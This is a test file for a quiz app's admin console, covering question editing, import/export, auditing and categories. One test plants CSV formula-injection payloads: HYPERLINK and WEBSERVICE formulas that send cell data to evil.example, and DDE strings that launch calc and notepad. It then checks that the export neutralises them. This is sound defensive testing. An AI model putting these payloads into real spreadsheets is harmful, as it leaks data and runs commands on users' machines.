import { parse as parseCsv } from 'csv-parse/sync'
import { sql } from 'drizzle-orm'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { consoleSession } from '../../../test/console.ts'
import { testDatabases } from '../../../test/databases.ts'
import { createTestApp, type TestApp } from '../../../test/harness.ts'
import { toCsv } from '../../lib/csv.ts'
import { categorySlugs, parseQuestionFile } from './question-bank.ts'
import { allQuestions } from './question-editor.repo.ts'

describe.each(testDatabases)('the console question bank on $name', (kind) => {
  let t: TestApp
  let editor: string
  beforeEach(async () => {
    t = await createTestApp(kind)
    editor = await consoleSession(t, 'editor@example.com', 'editor')
  })
  afterEach(() => t.close())

  const call = (method: 'GET' | 'POST' | 'PUT', url: string, payload?: object, cookie = editor) =>
    t.app.inject({ method, url, headers: { cookie }, ...(payload ? { payload } : {}) })
  const list = async (query: string) => (await call('GET', `/api/console/questions?${query}`)).json().data

  it('lists, filters and searches the bank a page at a time', async () => {
    const all = await list('')
    expect(all.items).toHaveLength(50)
    expect(all.total).toBe(4504)
    const sports = await list('category=sports&difficulty=hard')
    expect(
      sports.items.every(
        (q: { category: string; difficulty: string }) => q.category === 'sports' && q.difficulty === 'hard',
      ),
    ).toBe(true)
    const [sample] = sports.items
    const found = await list(`q=${encodeURIComponent(sample.question.slice(2, 20))}`)
    expect(found.items.map((q: { id: number }) => q.id)).toContain(sample.id)
    // ILIKE's wildcards are searched for as characters.
    expect((await list('q=%25%25%25')).total).toBe(0)
    expect((await list('page=91')).items).toHaveLength(4504 - 90 * 50)
    expect((await call('GET', '/api/console/questions?category=cooking')).statusCode).toBe(400)
  })

  it('edits a question, retires and restores it, refuses a duplicate, and audits each change', async () => {
    const [first, second] = (await list('category=general-knowledge')).items
    const edit = {
      question: 'বাংলাদেশের জাতীয় ফুল কোনটি? ',
      option1: 'শাপলা',
      option2: 'গোলাপ',
      option3: 'জবা',
      correctOption: 1,
      difficulty: 'easy',
    }
    const edited = await call('PUT', `/api/console/questions/${first.id}`, edit)
    expect(edited.statusCode, edited.body).toBe(200)
    expect(edited.json().data).toMatchObject({ ...edit, question: 'বাংলাদেশের জাতীয় ফুল কোনটি?', active: true })
    const duplicate = await call('PUT', `/api/console/questions/${second.id}`, edit)
    expect(duplicate.statusCode).toBe(409)
    expect(
      (await call('PUT', `/api/console/questions/${second.id}`, { ...edit, option2: 'শাপলা' })).statusCode,
    ).toBe(400)

    const before = (await call('GET', '/api/console/categories'))
      .json()
      .data.find((c: { slug: string }) => c.slug === 'general-knowledge')
    expect(
      (await call('PUT', `/api/console/questions/${first.id}/active`, { active: false })).json().data.active,
    ).toBe(false)
    const after = (await call('GET', '/api/console/categories'))
      .json()
      .data.find((c: { slug: string }) => c.slug === 'general-knowledge')
    expect(after.activeQuestions).toBe(before.activeQuestions - 1)
    // The count is the category's, the same the list's filter finds.
    expect(after.activeQuestions).toBe((await list('category=general-knowledge&status=active')).total)
    expect(after.activeQuestions).toBeGreaterThan(100)
    expect((await list(`status=retired`)).items.map((q: { id: number }) => q.id)).toEqual([first.id])
    await call('PUT', `/api/console/questions/${first.id}/active`, { active: true })
    // Plays point at their questions without a key (migration 0014): a question is retired, and
    // the database itself refuses to delete one, or to empty the bank.
    await expect(t.database.db.execute(sql`delete from questions where id = ${first.id}`)).rejects.toThrow()
    await expect(t.database.db.execute(sql`truncate questions cascade`)).rejects.toThrow()
    expect((await list(`q=${encodeURIComponent(edit.question.trim())}`)).total).toBe(1)

    const admin = await consoleSession(t, 'admin@example.com', 'admin')
    const actions = (await call('GET', '/api/console/audit', undefined, admin))
      .json()
      .data.entries.filter((e: { subject: string }) => e.subject === `question:${first.id}`)
      .map((e: { action: string }) => e.action)
    expect(actions).toEqual(['question.activate', 'question.retire', 'question.update'])
  })

  it('imports a file all or nothing with each bad line named, and exports what imports back', async () => {
    const bad =
      'category,question,option1,option2,option3,answer\r\nsports,ঠিক প্রশ্ন?,এক,দুই,তিন,option1\r\ncooking,ভুল প্রশ্ন?,এক,দুই,তিন,option4\r\n'
    const refused = (await call('POST', '/api/console/questions/import', { format: 'csv', text: bad })).json()
      .data
    expect(refused.imported).toBe(0)
    expect(refused.problems).toEqual([
      { line: 3, message: expect.stringContaining('answer must be option1, option2 or option3.') },
    ])
    expect((await list('q=ঠিক প্রশ্ন')).total).toBe(0)

    const good = bad.split('\r\n').slice(0, 2).join('\r\n')
    expect(
      (await call('POST', '/api/console/questions/import', { format: 'csv', text: good })).json().data,
    ).toEqual({ imported: 1, problems: [] })
    expect((await list(`q=${encodeURIComponent('ঠিক প্রশ্ন')}`)).total).toBe(1)

    for (const format of ['csv', 'json'] as const) {
      const exported = await call('GET', `/api/console/questions/export?format=${format}`)
      expect(exported.headers['content-disposition']).toBe(`attachment; filename="questions.${format}"`)
      const parsed = parseQuestionFile(
        exported.body,
        format,
        new Set((await categorySlugs(t.database.db)).keys()),
      )
      expect(parsed.problems).toEqual([])
      expect(parsed.rows).toHaveLength(4505)
    }

    // Each download of the bank is audited: who, which format, how many questions.
    const admin = await consoleSession(t, 'admin@example.com', 'admin')
    const exports = (await call('GET', '/api/console/audit', undefined, admin))
      .json()
      .data.entries.filter((e: { action: string }) => e.action === 'question.export')
    expect(exports).toEqual([
      expect.objectContaining({
        actor: 'editor@example.com',
        subject: 'questions',
        after: { format: 'json', questions: 4505 },
      }),
      expect.objectContaining({
        actor: 'editor@example.com',
        subject: 'questions',
        after: { format: 'csv', questions: 4505 },
      }),
    ])
    // A refused export (finance is no editor) leaves none.
    const finance = await consoleSession(t, 'finance@example.com', 'finance')
    const notEditor = await call('GET', '/api/console/questions/export?format=csv', undefined, finance)
    expect(notEditor.statusCode).toBe(403)
    const after = (await call('GET', '/api/console/audit', undefined, admin)).json().data.entries
    expect(after.filter((e: { action: string }) => e.action === 'question.export')).toHaveLength(2)
  })

  it('exports formula-looking text so no spreadsheet runs it, and the export imports back unchanged', async () => {
    // Planted as an operator could: an imported file, and an edit.
    const planted = [
      ['=HYPERLINK("http://evil.example/?x="&A1,"ফল দেখুন")', '=1+1', 'সাধারণ', 'অন্য'],
      ["+cmd|' /C calc'!A0", '+৮৮০', '-5', '-২'],
      ["-2+3+cmd|' /C notepad'!A0", '@SUM(A1:A9)', '0', "'=already a text mark"],
      ['@প্রশ্ন, with a comma and "quotes"', "''+two marks", '3.5', '+7'],
    ]
    const file = toCsv(
      ['category', 'question', 'option1', 'option2', 'option3', 'answer'],
      planted.map(([question, ...options]) => ['sports', question ?? '', ...options.slice(0, 3), 'option2']),
    )
    const imported = await call('POST', '/api/console/questions/import', { format: 'csv', text: file })
    expect(imported.json().data).toEqual({ imported: planted.length, problems: [] })
    const [edited] = (await list('category=world')).items
    const edit = {
      question: '=WEBSERVICE("http://evil.example/"&A2)',
      option1: '@A1',
      option2: '-1-1',
      option3: '+1',
      correctOption: 1,
      difficulty: 'easy',
    }
    expect((await call('PUT', `/api/console/questions/${edited.id}`, edit)).statusCode).toBe(200)

    const bank = await allQuestions(t.database.db)
    const texts = bank.flatMap((q) => [q.question, q.option1, q.option2, q.option3])
    for (const [question, ...options] of planted) {
      expect(texts).toContain(question)
      for (const option of options) expect(texts).toContain(option)
    }

    const exported = await call('GET', '/api/console/questions/export?format=csv')
    const cells = (parseCsv(exported.body) as string[][]).flat()
    const runnable = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(?:\.\d+)?$/.test(cell))
    expect(runnable).toEqual([])
    expect(cells).toContain(`'${planted[0]?.[0]}`)
    expect(cells).toContain(`'${edit.question}`)
    expect(cells).toContain("''=already a text mark")
    // A plain number stays a number for the spreadsheet.
    expect(cells).toContain('-5')
    expect(exported.body).toContain(`"'=1+1"`)

    // Every question comes back as it was, the planted ones included.
    const again = await call('POST', '/api/console/questions/import', { format: 'csv', text: exported.body })
    expect(again.json().data).toEqual({ imported: bank.length, problems: [] })
    expect(await allQuestions(t.database.db)).toEqual(bank)
  })

  it('adds a category that players can pick and questions can be imported into, once per slug', async () => {
    const body = { slug: 'bangla-cinema', name: 'বাংলা সিনেমা', visible: true, sortOrder: 6 }
    const created = await call('POST', '/api/console/categories', body)
    expect(created.statusCode).toBe(200)
    expect(created.json().data).toMatchObject({ ...body, activeQuestions: 0 })
    const again = await call('POST', '/api/console/categories', { ...body, name: 'আবার' })
    expect(again.statusCode).toBe(409)
    expect(again.json().message).toBe('There is already a category bangla-cinema.')
    const bad = await call('POST', '/api/console/categories', { ...body, slug: 'Bangla Cinema' })
    expect(bad.statusCode).toBe(400)
    expect(bad.json().message).toContain('lowercase English letters')

    const shown = (await t.app.inject('/api/Quiz/GetQuizCategories')).json().data
    expect(shown.map((c: { category: string }) => c.category)).toContain('বাংলা সিনেমা')
    const imported = await call('POST', '/api/console/questions/import', {
      format: 'csv',
      text: 'category,question,option1,option2,option3,answer\r\nbangla-cinema,প্রথম সবাক ছবি কোনটি?,জাগো হুয়া সাভেরা,মুখ ও মুখোশ,নদী ও নারী,option2\r\n',
    })
    expect(imported.json().data).toEqual({ imported: 1, problems: [] })
    const admin = await consoleSession(t, 'admin@example.com', 'admin')
    const entries = (await call('GET', '/api/console/audit', undefined, admin)).json().data.entries
    expect(entries.filter((e: { action: string }) => e.action === 'category.create')).toEqual([
      expect.objectContaining({ after: expect.objectContaining({ slug: 'bangla-cinema' }) }),
    ])
  })

  it('renames, reorders and hides a category, and the players no longer see a hidden one', async () => {
    const categories = (await call('GET', '/api/console/categories')).json().data
    const world = categories.find((c: { slug: string }) => c.slug === 'world')
    const hidden = await call('PUT', `/api/console/categories/${world.id}`, {
      name: 'পৃথিবী',
      visible: false,
      sortOrder: 9,
    })
    expect(hidden.json().data).toMatchObject({ name: 'পৃথিবী', visible: false, sortOrder: 9 })
    const shown = (await t.app.inject('/api/Quiz/GetQuizCategories'))
      .json()
      .data.map((c: { category: string }) => c.category)
    expect(shown).not.toContain('পৃথিবী')
    expect(shown).not.toContain(world.name)
    // Three of the five stay visible: hiding a third would leave players nothing to pick.
    const gk = categories.find((c: { slug: string }) => c.slug === 'general-knowledge')
    const refused = await call('PUT', `/api/console/categories/${gk.id}`, {
      name: gk.name,
      visible: false,
      sortOrder: gk.sortOrder,
    })
    expect(refused.statusCode).toBe(409)
    expect(refused.json().message).toBe(
      'Players pick 3 categories for a daily quiz, so at least 3 must stay visible.',
    )
    expect(
      (await call('PUT', '/api/console/categories/999999', { name: 'x', visible: true, sortOrder: 1 }))
        .statusCode,
    ).toBe(404)
  })
})
